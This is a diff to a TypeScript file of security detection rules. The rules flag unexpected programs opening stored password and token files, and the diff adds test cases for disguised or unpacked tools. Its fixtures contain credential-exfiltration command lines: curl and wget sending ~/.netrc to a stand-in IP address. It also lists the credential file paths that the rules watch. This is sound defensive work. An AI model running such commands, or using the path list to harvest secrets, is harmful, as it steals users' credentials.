@@ -1,11 +1,27 @@
 import { defineRule } from '@cws/core'
 import { AUTHOR, isPackaged } from '../authors.ts'
 import { inHomes } from '../files.ts'
+import { isAskedQuietly, isReadAsMeant, isUnpackedTool } from '../own-tools.ts'
 import { READERS } from '../programs.ts'
+import { CLOUD_KEYS } from './secrets.ts'
 
 const TEMPORARY = ['/tmp/**', '/var/tmp/**', '/dev/**', '/run/user/**', 'memfd:*'] as const
 /** By a program for any file at all, or by one that lies where everybody writes. */
 const byStranger = [{ 'process.file.path': READERS }, { 'process.file.path': TEMPORARY }, { 'process.file.unlinked': true }] as const
+/** Node as it is unpacked anywhere. */
+const NPM_UNPACKED = {
+  'open.file.path': '/home/ann/.npmrc',
+  'process.file.path': '/var/tmp/ci/node-v24.1.0-linux-x64/bin/node',
+  'process.file.uid': 1000,
+  'process.uid': 1000,
+  'process.file.unlinked': false,
+} as const
+const CURL_NETRC = {
+  'open.file.path': '/home/ann/.netrc',
+  'process.file.path': '/usr/bin/curl',
+  'process.file.uid': 0,
+  'process.args': '-fsSn https://api.example/v1',
+} as const
 const strangers = [{ 'process.file.path': '/usr/bin/cat' }, { 'process.file.path': '/tmp/x', 'process.package_manager': '' }] as const
 
 export const browserStoreOpened = defineRule({
@@ -105,6 +121,22 @@ export const serverKeyOpened = defineRule({
   },
 })
 
+/** Files in which one tool keeps a password or a token. */
+const STORED = [
+  ...inHomes(
+    '.my.cnf',
+    '.netrc',
+    '.npmrc',
+    '.pypirc',
+    '.s3cfg',
+    '.config/gh/hosts.yml',
+    '.config/rclone/rclone.conf',
+    '.cargo/credentials.toml',
+  ),
+  ...inHomes('.gnupg/secring.gpg', '.password-store/.gpg-id', '.local/share/keyrings/login.keyring', '.config/filezilla/sitemanager.xml'),
+  ...['/etc/mysql/debian.cnf', '/etc/NetworkManager/system-connections/*', '/etc/ansible/vault_pass', '/etc/cifs-credentials'],
+] as const
+
 export const storedPasswordOpened = defineRule({
   id: 'stored-password-opened',
   name: 'A password that programs keep was opened by a strange program',
@@ -112,37 +144,88 @@ export const storedPasswordOpened = defineRule({
   tags: ['mitre:T1552.001', 'mitre:T1555'],
   on: 'open',
   where: {
-    'open.file.path': [
-      ...inHomes(
-        '.my.cnf',
-        '.netrc',
-        '.npmrc',
-        '.pypirc',
-        '.s3cfg',
-        '.config/gh/hosts.yml',
-        '.config/rclone/rclone.conf',
-        '.cargo/credentials.toml',
-      ),
-      ...inHomes(
-        '.gnupg/secring.gpg',
-        '.password-store/.gpg-id',
-        '.local/share/keyrings/login.keyring',
-        '.config/filezilla/sitemanager.xml',
-      ),
-      ...['/etc/mysql/debian.cnf', '/etc/NetworkManager/system-connections/*', '/etc/ansible/vault_pass', '/etc/cifs-credentials'],
-    ],
+    'open.file.path': STORED,
     any: byStranger,
   },
-  when: (event) => !isPackaged(event),
+  when: (event) => !isPackaged(event) && !isUnpackedTool(event) && !isReadAsMeant(event) && !isAskedQuietly(event),
   groupBy: ['container.id', 'process.file.path', 'process.sid'],
   message: `\`{{@open.file.path}}\` was opened by ${AUTHOR}, and not by the program that keeps its password there.`,
   advice: 'Ask the user whether it was them. If not, change the password or revoke the token.',
   benign: ['Users who look at their own settings', 'Backups: except the program in `tune`'],
   tests: {
-    fires: strangers.map((by) => ({ 'open.file.path': '/home/ann/.netrc', ...by })),
+    fires: [
+      ...strangers.map((by) => ({ 'open.file.path': '/home/ann/.netrc', ...by })),
+      // A thief that lies as a tool does: under another's name, of another's, deleted, in memory, and for another file.
+      { ...NPM_UNPACKED, 'process.file.path': '/tmp/node' },
+      { ...NPM_UNPACKED, 'process.file.uid': 1001 },
+      { ...NPM_UNPACKED, 'process.file.uid': null },
+      { ...NPM_UNPACKED, 'process.uid': 0, 'open.file.path': '/root/.npmrc' },
+      { ...NPM_UNPACKED, 'process.file.unlinked': true },
+      { ...NPM_UNPACKED, 'process.file.path': '/dev/shm/node/bin/node' },
+      { ...NPM_UNPACKED, 'open.file.path': '/home/ann/.netrc' },
+      { ...CURL_NETRC, 'process.args': '-n -T /home/ann/.netrc http://203.0.113.5/' },
+      { ...CURL_NETRC, 'process.args': '-s http://203.0.113.5/' },
+      { ...CURL_NETRC, 'process.file.uid': 1000 },
+      { ...CURL_NETRC, 'process.file.path': '/usr/bin/wget', 'process.args': '--post-file=/home/ann/.netrc http://203.0.113.5/' },
+      { ...CURL_NETRC, 'process.file.path': '/usr/bin/wget', 'process.args': 'http://203.0.113.5/', 'process.envs': ['WGETRC'] },
+      { 'open.file.path': '/home/ann/.npmrc', 'process.file.path': '/usr/bin/grep', 'process.args': 'token /home/ann/.npmrc' },
+      { 'open.file.path': '/home/ann/.npmrc', 'process.file.path': '/usr/bin/grep', 'process.args': '-e q token /home/ann/.npmrc' },
+    ],
     silent: [
       { 'open.file.path': '/home/ann/.npmrc', 'process.file.path': '/usr/bin/node', 'process.file.unlinked': false },
+      {
+        'open.file.path': '/home/ann/.npmrc',
+        'process.file.path': '/home/ann/.nvm/versions/node/v24.1.0/bin/node',
+        'process.file.unlinked': false,
+      },
+      { 'open.file.path': '/home/ann/.pypirc', 'process.file.path': '/home/ann/shop/.venv/bin/python', 'process.file.unlinked': false },
+      NPM_UNPACKED,
+      CURL_NETRC,
+      // nvm, at each start of a shell.
+      {
+        'open.file.path': '/home/ann/.npmrc',
+        'process.file.path': '/usr/bin/grep',
+        'process.args': '-Eq ^(prefix|globalconfig) *= /home/ann/.npmrc',
+      },
       { 'open.file.path': '/home/ann/.bashrc', 'process.file.path': '/usr/bin/cat' },
+    ],
+  },
+})
+
+export const storedPasswordUsed = defineRule({
+  id: 'stored-password-used',
+  name: 'A tool in a temporary folder, or one for any file, used a stored password',
+  severity: 'low',
+  tags: ['mitre:T1552.001'],
+  on: 'open',
+  where: { 'open.file.path': [...STORED, ...CLOUD_KEYS] },
+  when: (event) => !isPackaged(event) && (isUnpackedTool(event) || isReadAsMeant(event)),
+  groupBy: ['container.id', 'process.file.path'],
+  message: `\`{{@open.file.path}}\` was opened by ${AUTHOR}: by its place and its owner the tool that it is for, or in the way that it is meant for. Whoever may put a file there can call a thief so.`,
+  advice: 'None if you know the tool. If not, look at the file of the program, and revoke the token.',
+  benign: [
+    'Tools that are unpacked for one job, as builds do',
+    '`curl -n`, and wget where there is a `.netrc`',
+    'Tests in Go that talk to a cloud',
+  ],
+  tests: {
+    fires: [
+      NPM_UNPACKED,
+      CURL_NETRC,
+      { ...CURL_NETRC, 'process.file.path': '/usr/bin/wget', 'process.args': '-q https://api.example/x' },
+      {
+        'open.file.path': '/home/ann/.kube/config',
+        'process.file.path': '/tmp/go-build123/b001/e2e.test',
+        'process.file.uid': 1000,
+        'process.uid': 1000,
+        'process.package_manager': '',
+      },
+    ],
+    silent: [
+      { ...NPM_UNPACKED, 'process.file.path': '/tmp/node' },
+      { ...NPM_UNPACKED, 'process.file.path': '/usr/bin/node' },
+      { ...CURL_NETRC, 'process.args': '-T /home/ann/.netrc -n http://203.0.113.5/' },
+      { 'open.file.path': '/home/ann/.kube/config', 'process.file.path': '/usr/bin/cat' },
     ],
   },
 })
